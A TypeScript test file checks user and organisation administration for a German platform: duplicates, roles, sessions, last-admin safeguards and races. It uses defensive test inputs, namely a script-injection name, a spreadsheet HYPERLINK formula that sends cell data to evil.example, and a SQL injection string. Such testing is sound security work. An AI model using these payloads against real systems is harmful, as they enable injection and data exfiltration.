import { beforeAll, describe, expect, it } from 'vitest';
import { useTestApp, type TestClient } from '../../test/test-app.ts';

describe('user and organisation administration', () => {
  const t = useTestApp();
  let admin: TestClient;
  let adminId: string;
  let ihk: string;
  beforeAll(async () => {
    const a = await t.signIn({ role: 'admin', org: 'cwe' });
    admin = a.client;
    adminId = a.userId;
    ihk = await t.orgId('ihk-chemnitz');
  });

  const create = (body: Record<string, unknown>) =>
    admin.post('/api/users', { role: 'staff', organisationId: ihk, password: 'ein langes Startpasswort', ...body });

  it('creates a staff user for IHK Chemnitz and logs it', async () => {
    const res = await create({ email: 'Kathrin.Schulze@ihk.example', displayName: 'Kathrin Schulze' });
    expect(res.statusCode).toBe(201);
    expect(res.json()).toMatchObject({
      email: 'kathrin.schulze@ihk.example',
      role: 'staff',
      organisation: { slug: 'ihk-chemnitz' },
      status: 'active',
      version: 1,
    });
    const log = (await admin.get('/api/admin/audit?action=user.created')).json();
    expect(log.items.some((e: { targetId: string }) => e.targetId === res.json().id)).toBe(true);
  });

  it('refuses a second account for the same address, whatever its case or spaces', async () => {
    await create({ email: 'doppelt@ihk.example', displayName: 'Erste Person' });
    for (const email of ['doppelt@ihk.example', 'DOPPELT@ihk.example', '  doppelt@ihk.example ']) {
      const res = await create({ email, displayName: 'Zweite Person' });
      expect(res.statusCode).toBe(409);
      expect(res.json().error).toMatchObject({ code: 'user.email_taken', fields: [{ path: 'email' }] });
    }
  });

  it('keeps hostile names byte-exact as text', async () => {
    for (const displayName of ['<script>alert(1)</script>', '=HYPERLINK("https://evil.example/?d="&A1,"Klick")', 'Ürsula 👩‍🔧 نور']) {
      const res = await create({ email: `name-${displayName.length}@ihk.example`, displayName });
      expect(res.statusCode).toBe(201);
      expect((await admin.get(`/api/users/${res.json().id}`)).json().displayName).toBe(displayName.normalize('NFC'));
    }
  });

  it('filters by organisation, role and text, matching % and _ literally', async () => {
    await create({ email: 'prozent@ihk.example', displayName: 'Anteil 100% sicher' });
    await create({ email: 'unter_strich@ihk.example', displayName: 'Unter Strich' });
    await create({ email: 'analyse@ihk.example', displayName: 'Analyse Person', role: 'analyst' });
    await create({ email: 'analyse@amz.example', displayName: 'Analyse Anderswo', role: 'analyst', organisationId: await t.orgId('amz') });
    const emails = async (query: string) => ((await admin.get(`/api/users?${query}`)).json() as { email: string }[]).map((u) => u.email);

    expect(await emails('q=100%25')).toEqual(['prozent@ihk.example']);
    // As wildcards, % and _ would match every account.
    expect(await emails('q=%25')).toEqual(['prozent@ihk.example']);
    expect(await emails('q=_')).toEqual(['unter_strich@ihk.example']);
    expect(await emails('q=ANTEIL')).toEqual(['prozent@ihk.example']);
    expect(await emails(`q=${encodeURIComponent("' OR 1=1 --")}`)).toEqual([]);

    const analysts = (await admin.get(`/api/users?role=analyst&organisationId=${ihk}`)).json() as {
      email: string;
      role: string;
      organisation: { id: string };
    }[];
    expect(analysts.map((u) => u.email)).toContain('analyse@ihk.example');
    expect(analysts.every((u) => u.role === 'analyst' && u.organisation.id === ihk)).toBe(true);
    expect(await emails(`role=analyst&organisationId=${await t.orgId('amz')}`)).toEqual(['analyse@amz.example']);

    expect((await admin.get('/api/users?role=boss')).statusCode).toBe(400);
    expect((await admin.get('/api/users?sort=email')).statusCode).toBe(400);
    // A NUL byte never reaches the database (PostgreSQL would fail on it).
    const nul = await admin.get('/api/users?q=a%00b');
    expect(nul.statusCode).toBe(400);
    expect(nul.json().error.fields[0].path).toBe('q');
  });

  it('changes a role, logs from and to, and refuses a stale version without losing the first change', async () => {
    const user = (await create({ email: 'rolle@ihk.example', displayName: 'Rollen Wechsel' })).json();
    const first = await admin.patch(`/api/users/${user.id}`, { role: 'analyst', version: user.version });
    expect(first.statusCode).toBe(200);
    expect(first.json()).toMatchObject({ role: 'analyst', version: 2 });
    const stale = await admin.patch(`/api/users/${user.id}`, { displayName: 'Anderer Name', version: user.version });
    expect(stale.statusCode).toBe(409);
    expect(stale.json().error.code).toBe('user.version_conflict');
    expect((await admin.get(`/api/users/${user.id}`)).json()).toMatchObject({ role: 'analyst', displayName: 'Rollen Wechsel' });
    const log = (await admin.get('/api/admin/audit?action=user.role_changed')).json();
    expect(log.items.find((e: { targetId: string }) => e.targetId === user.id).details).toEqual({ from: 'staff', to: 'analyst' });
  });

  it('ends every session of a disabled account and refuses its sign-in', async () => {
    const person = await t.signIn({ role: 'staff' });
    const user = (await admin.get(`/api/users/${person.userId}`)).json();
    expect((await admin.patch(`/api/users/${person.userId}`, { status: 'disabled', version: user.version })).statusCode).toBe(200);
    expect((await person.client.get('/api/account/sessions')).statusCode).toBe(401);
    expect((await t.client().login(person.email, person.password)).statusCode).toBe(401);
  });

  it('takes a changed role into effect at once, in the sessions already open', async () => {
    const other = await t.signIn({ role: 'admin', org: 'cwe' });
    expect((await other.client.get('/api/users')).statusCode).toBe(200);
    const res = await admin.patch(`/api/users/${other.userId}`, { role: 'staff', version: 1 });
    expect(res.statusCode).toBe(200);
    const after = await other.client.get('/api/users');
    expect(after.statusCode).toBe(403);
    expect(after.json().error.code).toBe('auth.forbidden');
  });

  it('ends all sessions of an account on request', async () => {
    const person = await t.signIn({ role: 'analyst' });
    const res = await admin.post(`/api/users/${person.userId}/end-sessions`);
    expect(res.json()).toEqual({ ended: 1 });
    expect((await person.client.get('/api/account/sessions')).statusCode).toBe(401);
  });

  it('never leaves the platform without an active admin, and an admin cannot delete themself', async () => {
    const others = (await admin.get('/api/users?role=admin')).json() as { id: string; version: number }[];
    for (const o of others.filter((u) => u.id !== adminId)) {
      await admin.patch(`/api/users/${o.id}`, { status: 'disabled', version: o.version });
    }
    const me = (await admin.get(`/api/users/${adminId}`)).json();
    const demote = await admin.patch(`/api/users/${adminId}`, { role: 'staff', version: me.version });
    expect(demote.statusCode).toBe(409);
    expect(demote.json().error.code).toBe('user.last_admin');
    const disable = await admin.patch(`/api/users/${adminId}`, { status: 'disabled', version: me.version });
    expect(disable.statusCode).toBe(409);
    expect(disable.json().error.code).toBe('user.last_admin');
    const remove = await admin.delete(`/api/users/${adminId}`);
    expect(remove.statusCode).toBe(409);
    expect(remove.json().error.code).toBe('user.self_delete');
    expect((await admin.get(`/api/users/${adminId}`)).json()).toMatchObject({ role: 'admin', status: 'active', version: me.version });
  });

  it('deletes an account, ends its sessions and logs it', async () => {
    const person = await t.signIn({ role: 'staff', email: 'weg@ihk.example' });
    expect((await admin.delete(`/api/users/${person.userId}`)).statusCode).toBe(200);
    expect((await admin.get(`/api/users/${person.userId}`)).statusCode).toBe(404);
    expect((await person.client.get('/api/account/sessions')).statusCode).toBe(401);
    expect((await t.client().login(person.email, person.password)).statusCode).toBe(401);
    const log = (await admin.get('/api/admin/audit?action=user.deleted')).json();
    expect(log.items.some((e: { targetId: string }) => e.targetId === person.userId)).toBe(true);
    expect((await admin.delete(`/api/users/${person.userId}`)).statusCode).toBe(404);
  });

  it('creates one account when the same address is submitted twice at once', async () => {
    const body = { email: 'gleichzeitig@ihk.example', displayName: 'Doppelklick' };
    const answers = await Promise.all([create(body), create(body), create(body)]);
    expect(answers.map((r) => r.statusCode).sort()).toEqual([201, 409, 409]);
    expect((await admin.get('/api/users?q=gleichzeitig')).json()).toHaveLength(1);
  });

  it('refuses fields nobody may set, and changes nothing', async () => {
    const user = (await create({ email: 'masse@ihk.example', displayName: 'Mass Assignment' })).json();
    for (const extra of [{ passwordHash: 'x' }, { isDemo: true }, { email: 'neu@ihk.example' }]) {
      const res = await admin.patch(`/api/users/${user.id}`, { ...extra, displayName: 'Geändert', version: user.version });
      expect(res.statusCode).toBe(400);
      expect(JSON.stringify(res.json().error.fields)).toContain(Object.keys(extra)[0]);
    }
    expect((await admin.get(`/api/users/${user.id}`)).json()).toMatchObject({ displayName: 'Mass Assignment', version: 1, isDemo: false });
  });

  it('shows staff the people of their own organisation only', async () => {
    const staff = await t.signIn({ role: 'staff', org: 'amz' });
    const members = (await staff.client.get(`/api/organisations/${await t.orgId('amz')}/members`)).json() as {
      organisation: { slug: string };
    }[];
    expect(members.length).toBeGreaterThan(0);
    expect(members.every((m) => m.organisation.slug === 'amz')).toBe(true);
    expect((await staff.client.get(`/api/organisations/${ihk}/members`)).statusCode).toBe(404);
  });

  it('creates and edits organisations with unique, well-formed identifiers', async () => {
    const res = await admin.post('/api/organisations', {
      slug: 'tu-chemnitz',
      name: 'Technische Universität Chemnitz',
      shortName: 'TU Chemnitz',
      description: 'Forschungspartner',
    });
    expect(res.statusCode).toBe(201);
    const twice = await admin.post('/api/organisations', { slug: 'tu-chemnitz', name: 'Doppelt', shortName: 'Doppelt', description: '' });
    expect(twice.statusCode).toBe(409);
    expect(twice.json().error).toMatchObject({ code: 'organisation.slug_taken', fields: [{ path: 'slug' }] });
    const renamed = await admin.patch(`/api/organisations/${ihk}`, { slug: 'tu-chemnitz' });
    expect(renamed.statusCode).toBe(409);
    expect(renamed.json().error.code).toBe('organisation.slug_taken');
    const bad = await admin.post('/api/organisations', { slug: 'Ä B', name: 'Falsch', shortName: 'Falsch', description: '' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.fields[0].path).toBe('slug');
    const edited = await admin.patch(`/api/organisations/${res.json().id}`, { shortName: 'TUC' });
    expect(edited.json()).toMatchObject({ shortName: 'TUC', slug: 'tu-chemnitz' });
    const list = (await t.client().get('/api/organisations')).json() as { slug: string; memberCount: number; isLead: boolean }[];
    expect(list.find((o) => o.slug === 'tu-chemnitz')).toMatchObject({ memberCount: 0, isLead: false });
    expect(list.find((o) => o.slug === 'cwe')!.isLead).toBe(true);
    expect(list.find((o) => o.slug === 'ihk-chemnitz')).toBeDefined();
  });

  it('creates one organisation when the same identifier is submitted twice at once', async () => {
    const body = { slug: 'doppelklick', name: 'Doppelklick e. V.', shortName: 'Doppelklick', description: '' };
    const answers = await Promise.all([admin.post('/api/organisations', body), admin.post('/api/organisations', body)]);
    expect(answers.map((r) => r.statusCode).sort()).toEqual([201, 409]);
    expect(answers.find((r) => r.statusCode === 409)!.json().error.code).toBe('organisation.slug_taken');
  });
});

describe('the last admin, under concurrency', () => {
  const t = useTestApp();

  it('keeps one active admin when two admins demote or remove each other at the same moment', async () => {
    // Several rounds: the first ones may run one after the other while the connection pool fills.
    for (const attack of ['demote', 'delete', 'demote', 'delete', 'demote', 'delete', 'demote', 'delete'] as const) {
      const a = await t.signIn({ role: 'admin', org: 'cwe' });
      const b = await t.signIn({ role: 'admin', org: 'cwe' });
      // Exactly these two are the active admins: the survivor of the round before steps aside.
      for (const u of (await a.client.get('/api/users?role=admin')).json() as { id: string; status: string; version: number }[]) {
        if (u.id !== a.userId && u.id !== b.userId && u.status === 'active') {
          expect((await a.client.patch(`/api/users/${u.id}`, { status: 'disabled', version: u.version })).statusCode).toBe(200);
        }
      }
      const act = (from: typeof a, target: string) =>
        attack === 'demote'
          ? from.client.patch(`/api/users/${target}`, { role: 'staff', version: 1 })
          : from.client.delete(`/api/users/${target}`);
      const answers = await Promise.all([act(a, b.userId), act(b, a.userId)]);

      // One wins. The other is refused: normally as the last admin; had it started after the
      // winner committed, already by losing its admin role or account (403/401).
      const statuses = answers.map((r) => r.statusCode).sort();
      expect(statuses[0], attack).toBe(200);
      expect([401, 403, 409], attack).toContain(statuses[1]);
      const active = await t.database.db
        .selectFrom('app_user')
        .select('id')
        .where('role', '=', 'admin')
        .where('status', '=', 'active')
        .execute();
      expect(active, attack).toHaveLength(1);
    }
  });
});
